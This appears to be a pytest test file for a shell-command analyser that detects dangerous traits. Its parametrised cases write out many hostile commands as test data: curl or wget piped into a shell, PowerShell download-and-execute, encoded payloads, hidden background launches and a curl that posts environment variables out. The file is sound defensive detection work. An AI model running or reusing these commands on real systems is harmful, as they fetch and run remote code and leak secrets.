import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lazaretto.parse.shell import analyse
from lazaretto.parse.shell_facts import Trait


def traits(text: str) -> set[Trait]:
    return {act.trait for act in analyse(text).acts}


@pytest.mark.parametrize(
    "text",
    [
        "curl -s http://203.0.113.7/x | sh",
        "curl a.test/x|bash",
        "wget -qO- 'https://a.test/l' | sudo -E bash -",
        "bash <(curl -s https://a.test)",
        'bash -c "$(curl -fsSL https://a.test/i.sh)"',
        "sh -c 'curl https://a.test|bash'",
        'eval "$(wget -O- https://a.test)"',
        'X=$(curl -s https://a.test/p); eval "$X"',
        "case $OSTYPE in darwin*) curl -s https://a.test/mac | sh ;; esac",
        "powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://a.test/x')\"",
        "irm https://a.test/x | iex",
        "cmd /c curl https://a.test/x | cmd",
        "source <(curl -s https://a.test)",
        "deno run -A https://a.test/x.ts",
    ],
)
def test_remote_code(text: str) -> None:
    assert Trait.REMOTE_CODE in traits(text)


@pytest.mark.parametrize(
    "text",
    [
        "wget https://a.test/x.sh -O /tmp/x.sh; chmod +x /tmp/x.sh && /tmp/x.sh",
        "curl -o run.js https://a.test/r && node run.js",
        "curl http://a.test/x.cmd -o x.cmd && x.cmd",
        "mkdir -p ~/.v && curl -o ~/.v/b.sh https://a.test/b && nohup bash ~/.v/b.sh >/dev/null 2>&1 &",
        "git clone https://a.test/t/tool && node tool/x.js",
        'powershell -w hidden -c "iwr https://a.test/a -OutFile $env:TEMP\\a.ps1; powershell -f $env:TEMP\\a.ps1"',
    ],
)
def test_download_then_run(text: str) -> None:
    assert Trait.DOWNLOAD_RUN in traits(text)


@pytest.mark.parametrize(
    ("text", "trait"),
    [
        ("echo dHJ1ZQ== | base64 -d | sh", Trait.DECODED_CODE),
        ('eval "$(echo dHJ1ZQ== | base64 --decode)"', Trait.DECODED_CODE),
        ("powershell -enc dAByAHUAZQB0AHIAdQBlAA==", Trait.ENCODED_POWERSHELL),
        ("mshta http://a.test/x.hta", Trait.SCRIPT_HOST),
        ("node -e \"fetch('https://a.test').then(r=>r.text()).then(eval)\"", Trait.INLINE_LOADER),
        ("python3 -c 'import base64;exec(base64.b64decode(\"\"))'", Trait.INLINE_LOADER),
        ("node ./public/fonts/fa-solid-400.woff2", Trait.ASSET_RUN),
        ("node config/.DS_Store", Trait.ASSET_RUN),
        ("node ./.cache/x.js", Trait.HIDDEN_FILE_RUN),
        ("python /tmp/x.py", Trait.HIDDEN_FILE_RUN),
        ("nohup node ./x.js >/dev/null 2>&1 &", Trait.HIDDEN_START),
        ('start "" /b node x.js', Trait.HIDDEN_START),
        ("echo ok" + " " * 200 + "; node x.js", Trait.OFF_SCREEN),
        ('curl --data "$(env)" https://a.test', Trait.SECRET_SENT),
    ],
)
def test_other_traits(text: str, trait: Trait) -> None:
    assert trait in traits(text)


@pytest.mark.parametrize(
    "text",
    [
        "npm ci && npm run build",
        "curl https://a.test/a.tgz | tar xz",
        "curl -s https://a.test/v.json | python -m json.tool",
        "curl -s https://a.test/v.json | jq .tag",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "cat > x.sh <<EOF\ncurl https://a.test | sh\nEOF",
        "# curl https://a.test | sh",
        "echo 'curl https://a.test | sh'",
        "node .eslintrc.js",
        "./node_modules/.bin/tsc",
        "base64 -d key.txt > key.bin",
    ],
)
def test_ordinary_work_has_no_dangerous_trait(text: str) -> None:
    assert traits(text) <= {Trait.DOWNLOAD, Trait.INLINE_CODE}


def test_files_follow_the_folder() -> None:
    facts = analyse("cd server && node index.js; (cd ../web && python x.py); sh y.sh")
    assert [run.path for run in facts.runs] == ["server/index.js", "web/x.py", "server/y.sh"]


def test_commands_inside_concurrently_and_npx() -> None:
    facts = analyse('concurrently "node server/server.js" "npm run web"')
    assert [run.path for run in facts.runs] == ["server/server.js"]
    assert [call.name for call in facts.calls] == ["web"]
    assert [run.path for run in analyse("npx -y ts-node src/a.ts").runs] == ["src/a.ts"]
    assert [run.path for run in analyse("node -e \"require('./lib/x')\"").runs] == ["lib/x"]


@given(
    st.text(max_size=400)
    | st.lists(
        st.sampled_from(
            ["curl", "sh", "|", "-c", "$(", ")", '"', "'", "node", "<(", "base64", "-d", "&", ">", "x", "\n"]
        )
    ).map(" ".join)
)
def test_any_text_is_analysed(text: str) -> None:
    analyse(text)


def test_depth_is_bounded() -> None:
    start = time.perf_counter()
    facts = analyse("sh -c " * 3 + "$(sh -c " * 500)
    assert time.perf_counter() - start < 3
    assert facts is not None


@pytest.mark.parametrize(
    ("text", "trait", "detail"),
    [
        ("U=https://a.test/x; curl -s $U | sh", Trait.REMOTE_CODE, "https://a.test/x"),
        ("export U=https://a.test\nF=/tmp/x.sh\ncurl -o $F ${U}/x\nbash $F", Trait.DOWNLOAD_RUN, "https://a.test/x"),
        ("curl -sL https://a.test/n.tgz | tar xz -C /tmp/n && /tmp/n/run", Trait.DOWNLOAD_RUN, "https://a.test/n.tgz"),
        (
            "$u = 'https://a.test/x'\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c",
            Trait.REMOTE_CODE,
            "https://a.test/x",
        ),
    ],
)
def test_values_are_followed(text: str, trait: Trait, detail: str) -> None:
    assert [act.detail for act in analyse(text).all(trait)] == [detail]


@pytest.mark.parametrize(
    "text",
    [
        "U=https://a.test/x; curl -s $V | tee log",
        "U=https://a.test/x node run.js; echo $U",
        "curl -sL https://a.test/n.tgz | tar xz -C /tmp/n && /opt/run",
        "$c = Get-Content x.ps1\nInvoke-Expression $c",
    ],
)
def test_values_that_lead_nowhere(text: str) -> None:
    assert not {Trait.REMOTE_CODE, Trait.DOWNLOAD_RUN} & {act.trait for act in analyse(text).acts}
